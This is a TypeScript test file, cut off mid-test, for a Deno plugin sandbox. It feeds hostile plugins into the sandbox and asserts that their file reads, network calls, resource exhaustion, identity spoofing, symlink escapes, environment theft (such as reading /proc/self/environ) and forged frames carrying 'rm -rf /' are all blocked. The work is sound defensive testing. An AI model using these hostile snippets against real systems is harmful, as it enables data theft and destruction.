/**
 * The plugin sandbox against hostile plugins (issue 14, attacks 1-6 and more). Every test runs
 * real child processes on real files and loopback servers, asserts the specific error, and that
 * nothing outside the grants was read (the secret's text appears nowhere), written (sentinels'
 * bytes and mode unchanged) or contacted (the loopback server's log is empty).
 */
import assert from "node:assert/strict";
import {
  ingestionCacheKey,
  PluginCrashedError,
  PluginLimitError,
  PluginLoadError,
  PluginPermissionError,
  resolvePluginModule,
  SandboxedPlugin,
} from "../../src/ingestion/mod.ts";
import { InsecureUrlError } from "../../src/ingestion/mod.ts";
import { BBOX, loadAt, loopback, request, runBeside, workspace } from "./_attack.ts";

const text = (e: unknown) => (e instanceof Error ? `${e.name}: ${e.message}` : String(e));

// --- Attack 1: reading without read permission -------------------------------------------------

Deno.test("attack 1: a static JSON import of a file outside the package refuses the plugin, naming import and file", async () => {
  const ws = await workspace();
  try {
    const secret = await ws.sentinel(`${ws.dir}/secret.json`, '{"token":"s3cr3t-json"}');
    const mod = await ws.plugin("evil", {
      prelude: `import s from ${JSON.stringify(secret.path)} with { type: "json" };\n`,
      fetch: "return point(req, { extra: s });",
    });
    const e = await loadAt(mod, "evil").catch((e) => e);
    assert.ok(e instanceof PluginLoadError && e.reason === "import", text(e));
    assert.match(e.message, new RegExp(`import "${secret.path}" in ${mod}:1:\\d+ reaches`));
    assert.match(e.message, /outside the plugin's package folder/);
    assert.ok(!e.message.includes("s3cr3t-json"));
    await secret.check();
  } finally {
    await ws.close();
  }
});

Deno.test("attack 1: a literal dynamic import of a file inside fetch refuses the plugin at load", async () => {
  const ws = await workspace();
  try {
    const secret = await ws.sentinel(`${ws.dir}/secret.json`, '{"token":"s3cr3t-dyn"}');
    const mod = await ws.plugin("evil", {
      fetch: `const s = await import(${
        JSON.stringify(`file://${secret.path}`)
      }, { with: { type: "json" } }); return point(req, { extra: s.default });`,
    });
    const e = await loadAt(mod, "evil").catch((e) => e);
    assert.ok(e instanceof PluginLoadError && e.reason === "import", text(e));
    assert.match(e.message, /its dynamic import "file:\/\/.*secret.json" in .*mod.ts:\d+:\d+/);
    await secret.check();
  } finally {
    await ws.close();
  }
});

Deno.test("attack 1: a link inside the package folder to a file outside it is judged by its real path", async () => {
  const ws = await workspace();
  try {
    const secret = await ws.sentinel(`${ws.dir}/secret.json`, '{"token":"s3cr3t-link"}');
    const mod = await ws.plugin("evil", {
      prelude: `import s from "./data.json" with { type: "json" };\n`,
      fetch: "return point(req, { extra: s });",
    });
    await Deno.symlink(secret.path, `${ws.dir}/evil/data.json`);
    const e = await loadAt(mod, "evil").catch((e) => e);
    assert.ok(e instanceof PluginLoadError && e.reason === "import", text(e));
    assert.match(
      e.message,
      new RegExp(`import "./data.json" in .*reaches ${secret.path}, outside`),
    );
    await secret.check();
  } finally {
    await ws.close();
  }
});

Deno.test("attack 1: data: modules are vetted too (a data: import that imports a local file)", async () => {
  const ws = await workspace();
  try {
    const secret = await ws.sentinel(`${ws.dir}/secret.json`, '{"token":"s3cr3t-data"}');
    const inner = `import s from "file://${secret.path}" with { type: "json" }; export default s;`;
    const mod = await ws.plugin("evil", {
      prelude: `import s from ${JSON.stringify(`data:application/javascript,${inner}`)};\n`,
      fetch: "return point(req, { extra: s });",
    });
    const e = await loadAt(mod, "evil").catch((e) => e);
    assert.ok(e instanceof PluginLoadError && e.reason === "import", text(e));
    assert.match(e.message, /secret\.json.* outside the plugin's package folder/);
    await secret.check();
  } finally {
    await ws.close();
  }
});

Deno.test("attack 1: non-literal dynamic imports (computed, import.meta.resolve, blob:) fail at run time without read permission", async () => {
  const ws = await workspace();
  try {
    const secret = await ws.sentinel(`${ws.dir}/secret.json`, '{"token":"s3cr3t-computed"}');
    const mod = await ws.plugin("evil", {
      fetch: `
        const how = req.params.how;
        let url;
        if (how === "computed") url = "file://" + req.params.path;
        if (how === "resolve") url = import.meta.resolve("../" + "secret.json");
        if (how === "blob") {
          url = URL.createObjectURL(new Blob(
            ['import s from "file://' + req.params.path + '" with { type: "json" }; export default s;'],
            { type: "application/javascript" },
          ));
        }
        if (how === "own-source") return point(req, { extra: await Deno.readTextFile(import.meta.filename) });
        const s = how === "blob" ? await import(url) : await import(url, { with: { type: "json" } });
        return point(req, { extra: s.default });`,
    });
    const plugin = await loadAt(mod, "evil");
    try {
      for (const how of ["computed", "resolve", "blob", "own-source"]) {
        const e = await plugin.fetch(request({ how, path: secret.path })).catch((e) => e);
        assert.ok(e instanceof PluginPermissionError, `${how}: ${text(e)}`);
        assert.equal(e.permission, "read", how);
        assert.ok(!e.message.includes("s3cr3t-computed"), how);
      }
    } finally {
      await plugin.close();
    }
    await secret.check();
  } finally {
    await ws.close();
  }
});

// --- Attack 2: network and remote code without permission --------------------------------------

Deno.test("attack 2: a literal remote import behind a dead branch refuses the plugin and contacts nobody", async () => {
  const ws = await workspace();
  const server = loopback();
  try {
    const mod = await ws.plugin("evil", {
      fetch: `if (req.params.never === true) await import("https://${server.host}/x.js");`,
    });
    for (const permissions of [{}, { net: ["127.0.0.1"] }]) {
      const e = await loadAt(mod, "evil", { permissions }).catch((e) => e);
      assert.ok(e instanceof PluginLoadError && e.reason === "import", text(e));
      assert.match(
        e.message,
        new RegExp(
          `dynamic import "https://${server.host}/x.js" in .*mod.ts:\\d+:\\d+ reaches host`,
        ),
      );
      assert.match(e.message, /not in its import grant/);
    }
    assert.deepEqual(server.log, [], "the loopback server must see no request");
  } finally {
    await server.close();
    await ws.close();
  }
});

Deno.test("attack 2: a computed remote import or fetch at run time reaches no server", async () => {
  const ws = await workspace();
  const server = loopback();
  try {
    const mod = await ws.plugin("evil", {
      fetch: `
        if (req.params.how === "import") await import("https://" + req.params.host + "/y.js");
        if (req.params.how === "npm") await import("npm:" + req.params.pkg);
        if (req.params.how === "fetch") await (await fetch("http://" + req.params.host + "/z")).text();
        if (req.params.how === "ws") {
          await new Promise((resolve, reject) => {
            const ws = new WebSocket("ws://" + req.params.host + "/w");
            ws.onopen = resolve; ws.onerror = () => reject(new Error("websocket failed"));
          });
        }`,
    });
    const plugin = await loadAt(mod, "evil");
    try {
      for (const how of ["import", "fetch", "ws"]) {
        const e = await plugin.fetch(request({ how, host: server.host })).catch((e) => e);
        assert.ok(e instanceof PluginPermissionError, `${how}: ${text(e)}`);
        assert.match(e.permission, /^(net|import)$/, how);
      }
      // An npm package, cached (the project's own zod) or not: none is loaded, none downloaded.
      for (const pkg of ["zod@4.6.7", "left-pad@1.3.0"]) {
        const npm = await plugin.fetch(request({ how: "npm", pkg })).catch((e) => e);
        assert.ok(npm instanceof Error, `npm:${pkg} must not load`);
        assert.match(text(npm), /npm/, pkg);
      }
    } finally {
      await plugin.close();
    }
    assert.deepEqual(server.log, []);
  } finally {
    await server.close();
    await ws.close();
  }
});

// --- Attack 3: one plugin kills the whole run --------------------------------------------------

Deno.test("attack 3: a plugin exhausting its V8 heap is that plugin's PluginCrashedError (heap); the other modality completes", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("hog", {
      fetch: "const keep = []; for (;;) keep.push(new Array(1e6).fill(Math.random()));",
    });
    const plugin = await loadAt(mod, "hog", { limits: { heapMb: 64 } });
    const c = await runBeside(plugin);
    assert.ok(c instanceof PluginCrashedError, text(c));
    assert.equal(c.limit, "heap");
    assert.match(c.message, /V8 heap limit of 64 MiB \(source.limits.heapMb\)/);
  } finally {
    await ws.close();
  }
});

Deno.test({
  name:
    "attack 3: buffers outside the V8 heap hit the OS memory limit (memory); CPU spinning hits the CPU limit (cpu)",
  ignore: Deno.build.os !== "linux",
  async fn() {
    const ws = await workspace();
    try {
      const mod = await ws.plugin("hog", {
        fetch: `
          if (req.params.how === "buffers") {
            const keep = [];
            for (;;) { const a = new Float64Array(1e7); a.fill(1); keep.push(a); }
          }
          if (req.params.how === "spin") for (;;) {}`,
      });
      const plugin = await loadAt(mod, "hog", { limits: { memoryMb: 1024, cpuSeconds: 1 } });
      try {
        const m = await plugin.fetch(request({ how: "buffers" })).catch((e) => e);
        assert.ok(m instanceof PluginCrashedError, text(m));
        assert.equal(m.limit, "memory");
        assert.match(m.message, /memory limit of 1024 MiB \(source.limits.memoryMb\)/);
        // A fresh process serves the next fetch.
        const c = await plugin.fetch(request({ how: "spin" })).catch((e) => e);
        assert.ok(c instanceof PluginCrashedError, text(c));
        assert.equal(c.limit, "cpu");
        assert.match(c.message, /CPU time limit of 1 s/);
        assert.equal(plugin.restarts, 2);
      } finally {
        await plugin.close();
      }
    } finally {
      await ws.close();
    }
  },
});

Deno.test("attack 3: a plugin that exits is reported with its exit code and replaced at the next fetch", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("quitter", {
      fetch: `if (req.params.exit) { console.error("bye"); Deno.exit(7); }`,
    });
    const plugin = await loadAt(mod, "quitter");
    try {
      const first = plugin.pid;
      const e = await plugin.fetch(request({ exit: true })).catch((e) => e);
      assert.ok(e instanceof PluginCrashedError, text(e));
      assert.equal(e.limit, "exit");
      assert.equal(e.code, 7);
      assert.match(e.message, /exit code 7: bye/);
      const data = await plugin.fetch(request());
      assert.equal(data.kind, "points");
      assert.notEqual(plugin.pid, first);
      assert.equal(plugin.restarts, 1);
    } finally {
      await plugin.close();
    }
  } finally {
    await ws.close();
  }
});

Deno.test({
  name: "a warm process that has used half its CPU-time limit is retired between fetches",
  ignore: Deno.build.os !== "linux",
  async fn() {
    const ws = await workspace();
    try {
      const mod = await ws.plugin("busy", {
        prelude: `import process from "node:process";\n`,
        fetch: `
          if (req.params.cpuMs) {
            const cpu = () => { const u = process.cpuUsage(); return (u.user + u.system) / 1000; };
            while (cpu() < req.params.cpuMs) { /* burn CPU time, not wall time */ }
          }`,
      });
      const plugin = await loadAt(mod, "busy", { limits: { cpuSeconds: 2 } });
      try {
        const first = plugin.pid;
        await plugin.fetch(request({ cpuMs: 1200 }));
        assert.equal(plugin.pid, first, "the fetch that used the CPU was not cut");
        assert.equal((await plugin.fetch(request())).kind, "points");
        assert.notEqual(plugin.pid, first, "the next fetch runs in a fresh process");
        assert.equal(plugin.retired, 1);
        assert.equal(plugin.restarts, 0);
      } finally {
        await plugin.close();
      }
    } finally {
      await ws.close();
    }
  },
});

// --- Attack 4: identity spoofing and cache poisoning -------------------------------------------

Deno.test("attack 4: a module may not claim a built-in id, and an impostor's identity never shares the built-in's cache key", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("impostor", {
      id: "synthetic",
      fetch: "return point(req, { citation: 'impostor data' });",
    });
    assert.throws(
      () => resolvePluginModule("synthetic", mod),
      (e: Error) =>
        e instanceof PluginLoadError && e.reason === "identity" &&
        /"synthetic" is a built-in plugin id, and source.module .* may not claim it/.test(
          e.message,
        ),
    );
    await assert.rejects(
      loadAt(mod, "synthetic"),
      (e: Error) => e instanceof PluginLoadError && e.reason === "identity",
    );
    // Under another id, the manifest's claim is refused too.
    await assert.rejects(
      loadAt(mod, "impostor"),
      /manifest id is "synthetic", but the configuration names plugin "impostor"/,
    );
    // And the identity the sandbox reports is part of the key: same id and version, other key.
    const builtin = await SandboxedPlugin.load({
      plugin: "synthetic",
      module: resolvePluginModule("synthetic"),
      modality: "gravity",
    });
    await builtin.close();
    assert.match(builtin.identity.graphHash, /^sha256:[0-9a-f]{64}$/);
    assert.equal(builtin.identity.module, resolvePluginModule("synthetic"));
    const parts = { plugin: "synthetic", version: "1.0.0", modality: "gravity", bbox: BBOX };
    const real = ingestionCacheKey({ ...parts, identity: builtin.identity });
    const fake = ingestionCacheKey({
      ...parts,
      identity: { module: `file://${mod}`, graphHash: builtin.identity.graphHash },
    });
    assert.notEqual(real, fake);
    assert.notEqual(real, ingestionCacheKey(parts));
  } finally {
    await ws.close();
  }
});

// --- Attack 5: symlinks escape grants ----------------------------------------------------------

Deno.test("attack 5: a read grant holding links outside it (file, folder, cache dir) is refused; write grants are refused", async () => {
  const ws = await workspace();
  try {
    const outside = await ws.sentinel(`${ws.dir}/outside.txt`);
    await Deno.mkdir(`${ws.dir}/cache`);
    const cached = await ws.sentinel(`${ws.dir}/cache/entry.bin`);
    await Deno.mkdir(`${ws.dir}/elsewhere`);
    const mod = await ws.plugin("evil", {
      fetch: `
        const p = req.params.path;
        await Deno.writeTextFile(p, "pwned");
        await Deno.chmod(p, 0o777);
        await Deno.remove(p);`,
    });
    for (
      const [name, target] of [
        ["file", outside.path],
        ["folder", `${ws.dir}/elsewhere`],
        ["cache", `${ws.dir}/cache`],
      ]
    ) {
      const grant = `${ws.dir}/grant-${name}`;
      await Deno.mkdir(`${grant}/deeper`, { recursive: true });
      await Deno.symlink(target, `${grant}/deeper/link`);
      const e = await loadAt(mod, "evil", { permissions: { read: [grant] } }).catch((e) => e);
      assert.ok(e instanceof PluginLoadError && e.reason === "permissions", `${name}: ${text(e)}`);
      assert.match(e.message, new RegExp(`holds a link ${grant}/deeper/link leading outside`));
      const w = await loadAt(mod, "evil", { permissions: { read: [grant], write: [grant] } })
        .catch((e) => e);
      assert.ok(w instanceof PluginLoadError && /write grants are not accepted/.test(w.message));
    }
    await outside.check();
    await cached.check();
  } finally {
    await ws.close();
  }
});

Deno.test("attack 5: a link to a granted folder's own file is fine, and the plugin cannot make links in its scratch folder", async () => {
  const ws = await workspace();
  try {
    const outside = await ws.sentinel(`${ws.dir}/outside.txt`);
    const grant = `${ws.dir}/grant`;
    await Deno.mkdir(grant);
    await Deno.writeTextFile(`${grant}/data.txt`, "inside");
    await Deno.symlink(`${grant}/data.txt`, `${grant}/alias.txt`);
    const mod = await ws.plugin("linker", {
      fetch: `
        if (req.params.how === "read") return point(req, { extra: await Deno.readTextFile(req.params.path) });
        if (req.params.how === "symlink") await Deno.symlink(req.params.path, options.scratchDir + "/l");
        if (req.params.how === "link") await Deno.link(req.params.path, options.scratchDir + "/h");
        if (req.params.how === "write-outside") await Deno.writeTextFile(req.params.path, "pwned");`,
    });
    const plugin = await loadAt(mod, "linker", { permissions: { read: [grant] } });
    try {
      const ok = await plugin.fetch(request({ how: "read", path: `${grant}/alias.txt` }));
      assert.equal(ok.metadata.extra, "inside");
      for (const how of ["symlink", "link", "write-outside"]) {
        const e = await plugin.fetch(request({ how, path: outside.path })).catch((e) => e);
        assert.ok(e instanceof PluginPermissionError, `${how}: ${text(e)}`);
      }
    } finally {
      await plugin.close();
    }
    await outside.check();
  } finally {
    await ws.close();
  }
});

// --- Attack 6: unbounded outputs ---------------------------------------------------------------

Deno.test("attack 6: a 200 MB string, too many points, too large a message are PluginLimitErrors naming the limit", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("big", {
      fetch: `
        if (req.params.how === "string") return point(req, { extra: "x".repeat(200_000_000) });
        if (req.params.how === "long") return point(req, { extra: "y".repeat(100_000) });
        if (req.params.how === "points") {
          const r = point(req); const n = 2_000;
          r.points = { lon: new Float64Array(n).fill(10.5), lat: new Float64Array(n).fill(45.5), value: new Float64Array(n) };
          return r;
        }
        if (req.params.how === "message") {
          const r = point(req); const n = 1_000_000;
          r.points = { lon: new Float64Array(n).fill(10.5), lat: new Float64Array(n).fill(45.5), value: new Float64Array(n) };
          return r;
        }`,
    });
    const plugin = await loadAt(mod, "big", {
      limits: { maxPoints: 1000, maxMessageBytes: 4 * 1024 * 1024 },
    });
    try {
      const cases: [string, string][] = [
        ["long", "maxStringLength"],
        ["points", "maxPoints"],
        ["message", "maxMessageBytes"],
      ];
      for (const [how, limit] of cases) {
        const e = await plugin.fetch(request({ how })).catch((e) => e);
        assert.ok(e instanceof PluginLimitError, `${how}: ${text(e)}`);
        assert.equal(e.limit, limit, how);
        assert.match(e.message, new RegExp(`above source.limits.${limit} = ${e.max}`));
      }
      // The plugin still answers within its limits.
      assert.equal((await plugin.fetch(request())).kind, "points");
    } finally {
      await plugin.close();
    }
    // The issue's 200 MB string under the default caps (and room for the child to build it).
    const roomy = await loadAt(mod, "big", { limits: { heapMb: 1536, memoryMb: 4096 } });
    try {
      const e = await roomy.fetch(request({ how: "string" })).catch((e) => e);
      assert.ok(e instanceof PluginLimitError, text(e));
      assert.equal(e.limit, "maxMetadataBytes");
      assert.equal(e.max, 1024 * 1024);
      assert.ok(e.found > 200_000_000);
    } finally {
      await roomy.close();
    }
  } finally {
    await ws.close();
  }
});

// --- More attacks ------------------------------------------------------------------------------

Deno.test("more: the environment holds only granted variables; a granted subprocess inherits nothing of the host's", async () => {
  const ws = await workspace();
  Deno.env.set("GAM_TEST_HOST_SECRET", "host-secret-123");
  Deno.env.set("GAM_TEST_HARMLESS", "harmless");
  try {
    const mod = await ws.plugin("envy", {
      fetch: `
        if (req.params.how === "granted") return point(req, { extra: Deno.env.get("GAM_TEST_HARMLESS") });
        if (req.params.how === "other") return point(req, { extra: String(Deno.env.get("GAM_TEST_HOST_SECRET")) });
        if (req.params.how === "all") return point(req, { extra: JSON.stringify(Deno.env.toObject()) });
        if (req.params.how === "proc") return point(req, { extra: await Deno.readTextFile("/proc/self/environ") });
        if (req.params.how === "parent") return point(req, { extra: await Deno.readTextFile("/proc/" + req.params.ppid + "/environ") });
        if (req.params.how === "spawn") {
          const out = await new Deno.Command("env").output();
          return point(req, { extra: new TextDecoder().decode(out.stdout) });
        }`,
    });
    const plugin = await loadAt(mod, "envy", {
      permissions: { env: ["GAM_TEST_HARMLESS"], run: ["env"] },
    });
    try {
      assert.equal((await plugin.fetch(request({ how: "granted" }))).metadata.extra, "harmless");
      for (const how of ["other", "all"]) {
        const e = await plugin.fetch(request({ how })).catch((e) => e);
        assert.ok(
          e instanceof PluginPermissionError && e.permission === "env",
          `${how}: ${text(e)}`,
        );
      }
      for (const how of ["proc", "parent"]) {
        const e = await plugin.fetch(request({ how, ppid: Deno.pid })).catch((e) => e);
        assert.ok(
          e instanceof PluginPermissionError && e.permission === "read",
          `${how}: ${text(e)}`,
        );
      }
      const env = String((await plugin.fetch(request({ how: "spawn" }))).metadata.extra);
      assert.match(env, /GAM_TEST_HARMLESS=harmless/);
      assert.doesNotMatch(env, /host-secret-123|GAM_TEST_HOST_SECRET/);
      assert.doesNotMatch(env, /^HOME=/m);
    } finally {
      await plugin.close();
    }
  } finally {
    Deno.env.delete("GAM_TEST_HOST_SECRET");
    Deno.env.delete("GAM_TEST_HARMLESS");
    await ws.close();
  }
});

Deno.test("more: Deno.openKv, Deno.dlopen, fetch(file:), a Worker asking for more permissions all fail", async () => {
  const ws = await workspace();
  try {
    const secret = await ws.sentinel(`${ws.dir}/secret.txt`, "s3cr3t-more");
    const mod = await ws.plugin("tricks", {
      fetch: `
        const how = req.params.how, p = req.params.path;
        if (how === "kv") { const kv = await Deno.openKv(p + ".kv"); await kv.set(["a"], 1); }
        if (how === "ffi") Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {});
        if (how === "fetch-file") return point(req, { extra: await (await fetch("file://" + p)).text() });
        if (how === "worker") {
          const src = "const t = await Deno.readTextFile(" + JSON.stringify(p) + "); postMessage(t);";
          const w = new Worker(URL.createObjectURL(new Blob([src], { type: "application/javascript" })), { type: "module" });
          const t = await new Promise((resolve, reject) => { w.onmessage = (e) => resolve(e.data); w.onerror = (e) => { e.preventDefault(); reject(new Error(e.message)); }; });
          w.terminate();
          return point(req, { extra: t });
        }`,
    });
    const plugin = await loadAt(mod, "tricks");
    try {
      for (const how of ["kv", "ffi", "fetch-file", "worker"]) {
        const e = await plugin.fetch(request({ how, path: secret.path })).catch((e) => e);
        assert.ok(e instanceof Error, `${how}: it must fail`);
        assert.ok(!text(e).includes("s3cr3t-more"), how);
        if (how === "ffi") assert.ok(e instanceof PluginPermissionError && e.permission === "ffi");
        if (how === "kv") assert.match(text(e), /openKv is not a function/);
        if (how === "fetch-file" || how === "worker") assert.match(text(e), /read access/);
      }
      // A Worker asking for its own permissions takes the process down: only this plugin's.
      const mod2 = await ws.plugin("escalate", {
        fetch:
          `new Worker("data:application/javascript,postMessage(1)", { type: "module", deno: { permissions: { read: true } } });
          await new Promise(() => {});`,
      });
      const p2 = await loadAt(mod2, "escalate");
      const c = await runBeside(p2);
      assert.ok(c instanceof PluginCrashedError && c.limit === "exit", text(c));
      assert.match(c.message, /--unstable-worker-options/);
    } finally {
      await plugin.close();
    }
    await assert.rejects(Deno.stat(`${secret.path}.kv`), Deno.errors.NotFound);
    await secret.check();
  } finally {
    await ws.close();
  }
});

Deno.test("more: garbage on stdout breaks only the plugin's own channel; stdin (Deno or Node) yields nothing to spoof; huge stderr is bounded", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("noisy", {
      prelude: `import { writeSync } from "node:fs";\nimport process from "node:process";\n` +
        `let stolen = 0;\n`,
      fetch: `
        if (req.params.how === "node-stdin") {
          process.stdin.on("data", (d) => { stolen += d.length; });
          return point(req, { extra: String(stolen) });
        }
        if (req.params.how === "node-stdout") process.stdout.write("not a frame either");
        if (req.params.how === "stdout") { writeSync(1, new TextEncoder().encode("garbage that is no frame at all")); await new Promise(() => {}); }
        if (req.params.how === "console") console.log("a log line, not a frame");
        if (req.params.how === "stdin") {
          const buf = new Uint8Array(1024);
          const n = await Deno.stdin.read(buf);
          return point(req, { extra: String(n) });
        }
        if (req.params.how === "stderr") {
          const line = new TextEncoder().encode("e".repeat(1 << 20) + "\\n");
          for (let i = 0; i < 32; i++) Deno.stderr.writeSync(line);
        }`,
    });
    const plugin = await loadAt(mod, "noisy");
    try {
      assert.equal((await plugin.fetch(request({ how: "console" }))).kind, "points");
      assert.equal((await plugin.fetch(request({ how: "stdin" }))).metadata.extra, "null");
      assert.equal((await plugin.fetch(request({ how: "node-stdout" }))).kind, "points");
      await plugin.fetch(request({ how: "node-stdin" }));
      // The host's next frames reach the host code, not the plugin's stdin listener (which
      // would starve the fetch: bounded here so that a regression fails instead of hanging).
      const next = { ...request({ how: "node-stdin" }), signal: AbortSignal.timeout(10_000) };
      assert.equal((await plugin.fetch(next)).metadata.extra, "0");
      assert.equal((await plugin.fetch(request({ how: "stderr" }))).kind, "points");
      // "garb" read as a length prefix is 1.65 GB: refused before anything is allocated, and
      // the process, whose channel is out of step, is stopped.
      const c = await plugin.fetch(request({ how: "stdout" })).catch((e) => e);
      assert.ok(c instanceof PluginLimitError && c.limit === "maxMessageBytes", text(c));
      assert.equal(
        c.found,
        new DataView(new TextEncoder().encode("garb").buffer).getUint32(0, true),
      );
      assert.equal((await plugin.fetch(request())).kind, "points");
      assert.equal(plugin.restarts, 1);
    } finally {
      await plugin.close();
    }
    const beside = await runBeside(await loadAt(mod, "noisy"), { params: { how: "stdout" } });
    assert.ok(beside instanceof PluginLimitError, text(beside));
  } finally {
    await ws.close();
  }
});

Deno.test("more: a plugin hanging at import is stopped at the load timeout", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("stuck", { prelude: "for (;;) {}\n" });
    await assert.rejects(
      loadAt(mod, "stuck", { loadTimeoutMs: 2000 }),
      (e: Error) =>
        e instanceof PluginLoadError &&
        /importing the module did not finish in time/.test(e.message),
    );
  } finally {
    await ws.close();
  }
});

Deno.test("allowInsecureHttp is enforced: plain http to a granted host fails unless listed, and the server sees nothing", async () => {
  const ws = await workspace();
  const server = loopback("hello");
  try {
    // The plugin API's helper (the one host module every plugin may import) refuses it.
    const mod1 = await ws.plugin("plain1", {
      prelude: `import { fetchBytes } from "@gam/pipeline/plugin";\n`,
      fetch: `await fetchBytes("http://" + req.params.host + "/data", {
        allowInsecureHttp: options.allowInsecureHttp });`,
    });
    const p0 = await loadAt(mod1, "plain1", { permissions: { net: [server.host] } });
    const e0 = await p0.fetch(request({ host: server.host })).catch((e) => e);
    await p0.close();
    assert.ok(e0 instanceof InsecureUrlError, text(e0));
    // The child's global fetch enforces the rule, whatever helper the plugin uses.
    const mod2 = await ws.plugin("plain2", {
      fetch:
        `return point(req, { extra: await (await fetch("http://" + req.params.host + "/data")).text() });`,
    });
    // Granted host:port, not listed: refused before any connection.
    const p1 = await loadAt(mod2, "plain2", { permissions: { net: [server.host] } });
    const e1 = await p1.fetch(request({ host: server.host })).catch((e) => e);
    await p1.close();
    assert.ok(e1 instanceof InsecureUrlError, text(e1));
    // Granted bare host, not listed: Deno grants only port 443 (enforced by not granting).
    const p2 = await loadAt(mod2, "plain2", { permissions: { net: ["127.0.0.1"] } });
    const e2 = await p2.fetch(request({ host: server.host })).catch((e) => e);
    await p2.close();
    assert.ok(e2 instanceof PluginPermissionError && e2.permission === "net", text(e2));
    assert.deepEqual(server.log, []);
    // Listed: allowed.
    const p3 = await loadAt(mod2, "plain2", {
      permissions: { net: ["127.0.0.1"] },
      allowInsecureHttp: [server.host],
    });
    const ok = await p3.fetch(request({ host: server.host }));
    await p3.close();
    assert.equal(ok.metadata.extra, "hello");
    assert.deepEqual(server.log, ["GET /data"]);
  } finally {
    await server.close();
    await ws.close();
  }
});

Deno.test("more: forged frames on fd 1, a secret echoed to stderr or metadata, a failing createPlugin", async () => {
  const ws = await workspace();
  const secret = "tok-3141592653";
  try {
    const mod = await ws.plugin("forger", {
      prelude: `import { writeSync } from "node:fs";\n`,
      manifest: "",
      fetch: `
        const frame = (json, pad) => {
          const text = new TextEncoder().encode(json);
          const body = new Uint8Array(4 + text.length + pad);
          new DataView(body.buffer).setUint32(0, text.length, true);
          body.set(text, 4);
          const out = new Uint8Array(4 + body.length);
          new DataView(out.buffer).setUint32(0, body.length, true);
          out.set(body, 4);
          return out;
        };
        if (req.params.how === "junk") { writeSync(1, frame("{not json", 0)); await new Promise(() => {}); }
        if (req.params.how === "type") { writeSync(1, frame('{"type":"shell","cmd":"rm -rf /"}', 0)); await new Promise(() => {}); }
        if (req.params.how === "crash") { console.error("leaking " + options.auth + " \x1b[2J"); Deno.exit(9); }
        if (req.params.how === "meta") return point(req, { sourceUrl: "https://x.org/?key=" + options.auth });`,
    });
    // Everything the host writes to its stderr meanwhile (the plugin's forwarded log lines).
    const written: string[] = [];
    const realWrite = Deno.stderr.write.bind(Deno.stderr);
    Deno.stderr.write = (p: Uint8Array) => {
      written.push(new TextDecoder().decode(p));
      return realWrite(p);
    };
    const plugin = await loadAt(mod, "forger", { auth: secret });
    try {
      const junk = await plugin.fetch(request({ how: "junk" })).catch((e) => e);
      assert.ok(junk instanceof PluginCrashedError && junk.limit === "protocol", text(junk));
      assert.match(junk.message, /malformed message/);
      const type = await plugin.fetch(request({ how: "type" })).catch((e) => e);
      assert.ok(type instanceof PluginCrashedError && type.limit === "protocol", text(type));
      assert.match(type.message, /unknown type/);
      const crash = await plugin.fetch(request({ how: "crash" })).catch((e) => e);
      assert.ok(crash instanceof PluginCrashedError && crash.code === 9, text(crash));
      assert.match(crash.message, /leaking \[REDACTED\] \\x1b\[2J/, "control characters escaped");
      assert.ok(!crash.message.includes("\x1b"));
      assert.ok(!crash.message.includes(secret));
      const meta = await plugin.fetch(request({ how: "meta" }));
      assert.equal(meta.metadata.sourceUrl, "https://x.org/?key=[REDACTED]");
      assert.equal(plugin.restarts, 3);
      assert.ok(written.some((l) => l.includes("[plugin forger] leaking [REDACTED] \\x1b[2J")));
      assert.ok(written.every((l) => !l.includes(secret) && !l.includes("\x1b")));
    } finally {
      Deno.stderr.write = realWrite;
      await plugin.close();
    }
    for (
      const [name, factory] of [
        ["throws", `throw new Error("no " + options.auth)`],
        ["nofetch", "return {}"],
      ]
    ) {
      const bad = `${ws.dir}/${name}/mod.ts`;
      await Deno.mkdir(`${ws.dir}/${name}`);
      await Deno.writeTextFile(
        bad,
        (await Deno.readTextFile(mod)).replace(
          "export function createPlugin(options) {",
          `export function createPlugin(options) { ${factory};`,
        ).replace('id: "forger"', `id: "${name}"`),
      );
      const e = await loadAt(bad, name, { auth: secret }).catch((e) => e);
      assert.ok(e instanceof PluginLoadError && e.reason === "factory", text(e));
      assert.match(e.message, /createPlugin\(\) (failed|did not return an object with a fetch)/);
      assert.ok(!e.message.includes(secret));
    }
  } finally {
    await ws.close();
  }
});

Deno.test("more: a package's deno.json gives its import map and nothing else (no unstable APIs, no node_modules)", async () => {
  const ws = await workspace();
  try {
    await Deno.mkdir(`${ws.dir}/pkg/src/util`, { recursive: true });
    await Deno.writeTextFile(
      `${ws.dir}/pkg/deno.json`,
      JSON.stringify({
        imports: { "#util/": "./src/util/" },
        unstable: ["kv", "worker-options", "ffi"],
        nodeModulesDir: "auto",
      }),
    );
    await Deno.writeTextFile(`${ws.dir}/pkg/src/util/x.ts`, "export const x = 42;\n");
    const mod = await ws.plugin("pkg/src", {
      id: "pkg",
      prelude: 'import { x } from "#util/x.ts";\n',
      fetch: "return point(req, { extra: `${x} ${typeof Deno.openKv}` });",
    });
    const plugin = await loadAt(mod, "pkg");
    try {
      assert.equal((await plugin.fetch(request())).metadata.extra, "42 undefined");
    } finally {
      await plugin.close();
    }
    await assert.rejects(Deno.stat(`${ws.dir}/pkg/node_modules`), Deno.errors.NotFound);
  } finally {
    await ws.close();
  }
});

Deno.test("more: asking for a permission at run time, system information, the root folder, listening and unix sockets are refused", async () => {
  const ws = await workspace();
  try {
    const mod = await ws.plugin("asker", {
      fetch: `
        const how = req.params.how;
        if (how === "request") {
          await Deno.permissions.request({ name: "read" }); // --no-prompt: nobody to say yes
          return point(req, { extra: await Deno.readTextFile("/etc/hostname") });
        }
        if (how === "sys") return point(req, { extra: Deno.hostname() });
        if (how === "root") return point(req, { extra: JSON.stringify(await Array.fromAsync(Deno.readDir("/"))) });
        if (how === "listen") Deno.listen({ hostname: "127.0.0.1", port: 0 }).close();
        if (how === "unix") (await Deno.connect({ transport: "unix", path: req.params.path })).close();`,
    });
    // A unix socket served by the test: the plugin must not reach it.
    const sock = `${ws.dir}/daemon.sock`;
    const listener = Deno.listen({ transport: "unix", path: sock });
    let connections = 0;
    (async () => {
      try {
        for await (const c of listener) {
          connections++;
          c.close();
        }
      } catch {
        // closed at the end of the test
